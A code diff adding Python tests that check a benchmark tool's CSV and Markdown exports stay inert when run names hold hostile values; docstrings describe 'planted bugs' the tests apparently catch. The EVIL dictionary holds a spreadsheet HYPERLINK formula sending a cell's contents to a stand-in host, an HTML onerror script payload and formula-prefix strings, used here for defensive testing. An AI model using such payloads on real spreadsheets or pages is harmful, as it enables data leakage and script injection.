@@ -196,3 +196,63 @@ def test_resamples_are_checked_against_memory_before_the_work(argv, case, capsys
     rc, err, same = run_case(w, roots, argv, capsys)
     assert rc == 2 and len(err) == 1 and "needs about" in err[0] and "GiB is available" in err[0], err
     assert same
+
+
+# ------------------------------------------------------------------------------------------- outputs are inert
+EVIL = {"formula": "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "html": "x | <img src=x onerror=alert(1)> | y",
+        "plus": "+1+1", "at": "@SUM(1+1)", "tab": "\tcmd", "minus": "-2+3"}
+
+
+def shared_runs(w, names=EVIL):
+    """Copies of the stored run whose ``method`` is each hostile name (a run file shared by someone else)."""
+    path, record, _ = the_run(w)
+    for key, method in names.items():
+        (path.parent / f"shared_{key}.json").write_text(json.dumps(record | {"method": method}))
+
+
+def csv_rows(text: str) -> list[dict]:
+    import csv
+
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def formula_cells(rows: list[dict]) -> list[str]:
+    """The cells a spreadsheet would run: starting with = + - @ tab or CR and not a plain number."""
+    import re
+
+    number = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+    return [v for r in rows for v in r.values() if v and v[0] in "=+-@\t\r" and not number.fullmatch(v)]
+
+
+def test_csv_outputs_are_inert(case, capsys):
+    """compare --csv, RESULTS.csv and /leaderboard.csv: every hostile method name is quoted (OWASP: a leading
+    single quote), numbers stay numbers (R-sum parses as a float). Planted bug: compare_csv without
+    cells.csv_cell (the five names reached every CSV raw)."""
+    from cca_bench.web import create_app
+
+    w, roots = case
+    shared_runs(w)
+    assert main(["compare", "-q", "--csv", str(w / "out.csv"), *roots]) == 0
+    client = create_app(w / "data", w / "results").test_client()
+    page = client.get("/leaderboard.csv", headers={"Host": "127.0.0.1:8000"})
+    assert page.status_code == 200
+    for text in ((w / "out.csv").read_text(), (w / "results" / "RESULTS.csv").read_text(), page.get_data(True)):
+        rows = csv_rows(text)
+        methods = {r["Method"] for r in rows}
+        assert {"'" + m for m in EVIL.values() if m[0] in "=+-@\t"} <= methods, methods
+        assert formula_cells(rows) == []
+        assert all(float(r["R-sum"]) > 0 for r in rows)
+
+
+def test_markdown_cells_stay_one_cell_of_text(case, capsys):
+    """RESULTS.md: a method ``x | <img src=x onerror=alert(1)> | y`` is one escaped cell (every row of the table
+    has as many cells as its header) and no HTML tag reaches the file. Planted bug: results._cell returning
+    ``str(value)`` (the row gained two columns and the <img> tag passed)."""
+    w, roots = case
+    shared_runs(w, {"html": EVIL["html"]})
+    assert main(["compare", "-q", *roots]) == 0
+    text = (w / "results" / "RESULTS.md").read_text()
+    assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text
+    table = [line for line in text.splitlines() if line.startswith("|")]
+    cells = [len(line.replace("\\|", "").split("|")) for line in table]
+    assert len(table) >= 4 and len(set(cells)) == 1, table
